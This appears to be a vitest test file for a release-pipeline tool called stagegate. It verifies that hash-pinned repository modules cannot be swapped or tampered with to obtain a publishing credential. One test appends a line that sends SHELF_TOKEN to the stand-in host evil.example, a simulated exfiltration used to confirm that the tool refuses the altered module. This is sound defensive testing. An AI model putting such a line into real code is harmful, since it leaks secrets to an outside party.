import { createHash } from 'node:crypto'
import { appendFileSync, cpSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { parseReceipt, parseReleasePlan } from '@stagegate/schema'
import { Jobs, startGitlab } from '@stagegate/uploader/testing'
import { beforeAll, describe, expect, onTestFinished, test } from 'vitest'
import { ca, tls } from '../authority.js'
import { listen } from '../listen.js'
import { type Captured, capture, packInto, runJobs, stagegate } from '../tasks/rehearsal.mjs'
import { temporaryFolder } from './files.js'
import { tag, World } from './world.js'

const quickstart = readFileSync(new URL('../offline/pipeline.ts', import.meta.url), 'utf8')
const readme = readFileSync(new URL('../../packages/uploader/README.md', import.meta.url), 'utf8')
/** The module that the README shows. */
const shelf = /```js\n(\/\/ shelf\.mjs\n[\s\S]*?)```/.exec(readme)?.[1] ?? ''

const pipelineFor = (
  url: string,
  gitlab = 'https://gitlab.example',
  staging = "directory('repositories/staging')",
) => `import { App, Condition, directory, FileTarget, PipelineKind, PublicRepo, Release, Secret, StagingRepo, type RepositoryAddress } from 'stagegate'

const app = new App({ project: { url: '${gitlab}', ca: ${JSON.stringify(ca)} }, cli: { install: ['npm install --omit=dev --ignore-scripts --no-save --no-audit --no-fund ./packed/*.tgz'], pin: false } })
app.accept('isolation/command-not-pinned', 'a test')
app.accept('isolation/image-not-pinned', 'a test')
const tagged = new PipelineKind(app, 'release', { when: Condition.tag(/^v(?<version>\\d+\\.\\d+\\.\\d+)$/) })
const shelf = (token: string, path: string): RepositoryAddress => ({
  type: 'shelf',
  module: './release/shelf.mjs',
  origin: '${url}',
  ca: ${JSON.stringify(ca)},
  formats: ['file'],
  read: [],
  write: [Secret.variable(token)],
  settings: { path },
})
const staging = new StagingRepo(app, 'staging', { at: ${staging} })
const stable = new PublicRepo(app, 'stable', { at: shelf('SHELF_TOKEN', '/shelf/') })
const release = new Release(app, 'hello', { routes: [{ on: tagged, staging, public: stable }] })
new FileTarget(release, 'binaries', { build: { script: ['mkdir bin', 'echo hello > bin/hello'] }, files: 'bin/*' })
export default app
`

/** A server that takes each file once, and those of the credential alone. */
async function startShelf() {
  const files = new Map<string, Buffer>()
  const { url, close } = await listen(async (request, response) => {
    const path = request.url ?? ''
    const data: Buffer[] = []
    for await (const chunk of request) data.push(chunk)
    const answer = (status: number, body?: Buffer) => response.writeHead(status, { 'content-length': body?.length ?? 0 }).end(body)
    const there = files.get(path)
    if (request.method !== 'PUT') return answer(there === undefined ? 404 : 200, there)
    if (request.headers.authorization !== 'Bearer a-shelf-token') return answer(401)
    if (there !== undefined) return answer(412)
    files.set(path, Buffer.concat(data))
    return answer(201)
  })
  onTestFinished(close)
  return { url, files }
}

async function stagedOn(url: string, module = shelf): Promise<World> {
  const world = await World.built({
    variables: { SHELF_TOKEN: 'a-shelf-token' },
    pipeline: [[quickstart, pipelineFor(url)]],
    files: { 'release/shelf.mjs': module },
  })
  mkdirSync(world.path('bin'))
  world.write('bin/hello', 'hello\n')
  await world.succeed(['stage', '--target', 'binaries'])
  return world
}

async function worldOn(url: string): Promise<World> {
  const world = await stagedOn(url)
  await world.succeed(['seal'])
  return world
}

test('a repository of a type of one’s own is published to, once, and read back', { timeout: 300_000 }, async () => {
  const { url, files } = await startShelf()
  const world = await worldOn(url)
  const { module } = parseReleasePlan(world.read('release-plan.json'), 'the plan').repositories['stable'] ?? {}
  expect(module).toEqual({ path: 'release/shelf.mjs', sha256: createHash('sha256').update(shelf).digest('hex') })
  expect((await world.succeed(['publish', '--dry-run'])).stdout).toContain('Publishing now would send 1 of 1 artifacts.')
  const receipt = () => parseReceipt(world.read('.stagegate/receipts/binaries.json'), 'the receipt').outcomes.map(({ verdict }) => verdict)
  await world.succeed(['publish', '--target', 'binaries'])
  expect(receipt()).toEqual(['published'])
  expect([...files.keys()]).toEqual(['/shelf/hello/1.2.3/hello'])
  await world.succeed(['publish', '--target', 'binaries'])
  expect(receipt()).toEqual(['already-public'])
  await world.succeed(['verify', '--target', 'binaries'])
})

describe('no other code gets the credential', () => {
  const refused = async (change: (world: World) => void, words: readonly string[]) => {
    const { url, files } = await startShelf()
    const world = await worldOn(url)
    change(world)
    for (const verb of [['publish'], ['publish', '--dry-run'], ['verify']]) {
      const { exitCode, stderr } = await world.run(verb)
      expect(exitCode, stderr).toBe(2)
      for (const word of words) expect(stderr).toContain(word)
    }
    expect([...files.keys()]).toEqual([])
  }

  test('a module that was changed after synth', { timeout: 300_000 }, () =>
    refused(
      (world) => appendFileSync(world.path('release/shelf.mjs'), '\nawait fetch(`https://evil.example/${process.env.SHELF_TOKEN}`)\n'),
      ['release/shelf.mjs, the module of the repository stable: its sha256 is ', 'It was not loaded', 'run stagegate synth'],
    ),
  )

  test('another one where prepare puts it', { timeout: 300_000 }, () =>
    refused(
      (world) => {
        mkdirSync(world.path('.stagegate/modules/release'), { recursive: true })
        world.write('.stagegate/modules/release/shelf.mjs', 'export default {}')
      },
      ['its sha256 is '],
    ),
  )

  test('none, where it is missing', { timeout: 300_000 }, () =>
    refused((world) => rmSync(world.path('release/shelf.mjs')), ['there is no such file', '.stagegate/modules/release/shelf.mjs']),
  )
})

test('a module that brings another type is found before the seal, and not after a click', { timeout: 300_000 }, async () => {
  const { url } = await startShelf()
  const world = await stagedOn(url, shelf.replace("type: 'shelf'", "type: 'rack'"))
  const { exitCode, stderr } = await world.run(['seal'])
  expect(exitCode, stderr).toBe(2)
  expect(stderr).toContain('it provides the type "rack", but the repository has the type "shelf"')
  expect(existsSync(world.path('.stagegate/release-manifest.json'))).toBe(false)
})

test('a module that ends the process does not end it well', { timeout: 300_000 }, async () => {
  const { url } = await startShelf()
  const world = await stagedOn(url, 'process.exit(0)')
  const { exitCode, stderr } = await world.run(['seal'])
  expect(exitCode, stderr).toBe(3)
  expect(stderr).toContain('process.exit was called before the work was done')
})

test('synth refuses a module that is not there', { timeout: 300_000 }, async () => {
  const { url } = await startShelf()
  const world = await worldOn(url)
  rmSync(world.path('release/shelf.mjs'))
  await world.withPackage(async () => {
    const { exitCode, output } = await world.run(['synth'])
    expect(exitCode, output).toBe(2)
    expect(output).toContain('its module ./release/shelf.mjs is not in the project')
  })
})

describe('in a pipeline', () => {
  const packed = join(temporaryFolder(), 'packed')
  beforeAll(() => packInto(packed), 60_000)

  test('prepare passes the module on to jobs that check out nothing', { timeout: 300_000 }, async () => {
    const { url, files } = await startShelf()
    const world = await worldOn(url)
    rmSync(world.path('.stagegate'), { recursive: true })
    rmSync(world.path('bin'), { recursive: true })
    cpSync(packed, world.path('packed'), { recursive: true })
    writeFileSync(world.path('.gitignore'), '.gitlab-ci-local\nrepositories\n')
    for (const words of [
      ['add', '--all', '--force'],
      ['-c', 'user.name=T', '-c', 'user.email=t@example.org', 'commit', '-qm', 'packed'],
      ['tag', '-f', tag],
    ])
      expect((await capture('git', words, { cwd: world.checkout, timeout: 30_000 })).exitCode).toBe(0)
    const variables = { SHELF_TOKEN: 'a-shelf-token' }
    const jobs = (names: readonly string[], withNeeds = false) => runJobs(world.checkout, { tag, jobs: names, withNeeds, variables })
    const gate = await jobs(['seal'], true)
    expect(gate.exitCode, gate.log).toBe(0)
    expect(gate.log).toContain('.stagegate/modules/release/shelf.mjs')
    const published = await jobs(['publish: [binaries]'])
    expect(published.exitCode, published.log).toBe(0)
    expect([...files.keys()]).toEqual(['/shelf/hello/1.2.3/hello'])
  })
})

describe('in a job of GitLab’s', () => {
  const jobs = new Jobs()

  /** A job's folder, with what prepare and the build leave. */
  async function folderOn(url: string, gitlab: string): Promise<string> {
    const pipeline = pipelineFor(url, gitlab, "shelf('STAGING_TOKEN', '/staging/')")
    const world = await World.built({ pipeline: [[quickstart, pipeline]], files: { 'release/shelf.mjs': shelf } })
    const folder = join(temporaryFolder(), 'builds')
    mkdirSync(join(folder, '.stagegate/modules/release'), { recursive: true })
    cpSync(world.path('release-plan.json'), join(folder, '.stagegate/release-plan.json'))
    cpSync(world.path('release/shelf.mjs'), join(folder, '.stagegate/modules/release/shelf.mjs'))
    mkdirSync(join(folder, 'bin'))
    writeFileSync(join(folder, 'bin/hello'), 'hello\n')
    return folder
  }

  async function stageIn(folder: string): Promise<Captured> {
    const CI_JOB_TOKEN = jobs.start({
      name: 'stage: [binaries]',
      ref: { tag },
      pipeline: 100,
      commit: 'c'.repeat(40),
      project: { id: 7, path: 'acme/hello' },
    })
    const variables = { CI_JOB_TOKEN, GIT_STRATEGY: 'empty', STAGING_TOKEN: 'a-shelf-token' }
    const result = await stagegate(folder, ['stage', '--target', 'binaries'], { variables })
    jobs.end(CI_JOB_TOKEN)
    return result
  }

  test('the module of prepare is loaded; another file beside it stops the job', { timeout: 300_000 }, async () => {
    const gitlab = await startGitlab([jobs], { tls })
    onTestFinished(() => gitlab.close())
    const { url, files } = await startShelf()
    const folder = await folderOn(url, gitlab.url)
    const foreign = join(folder, '.stagegate/modules/release/other.mjs')
    writeFileSync(foreign, 'export default {}')
    const refused = await stageIn(folder)
    expect(refused.exitCode, refused.output).toBe(3)
    expect(refused.stderr).toContain('.stagegate/modules/release/other.mjs: it is a file')
    rmSync(foreign)
    const staged = await stageIn(folder)
    expect(staged.exitCode, staged.output).toBe(0)
    expect([...files.keys()]).toEqual(['/staging/hello/1.2.3/hello'])
    writeFileSync(join(folder, '.stagegate/modules/release/shelf.mjs'), `${shelf}\n`)
    rmSync(join(folder, '.stagegate/records'), { recursive: true })
    const altered = await stageIn(folder)
    expect(altered.exitCode, altered.output).toBe(2)
    expect(altered.stderr).toContain('It was not loaded')
  })
})
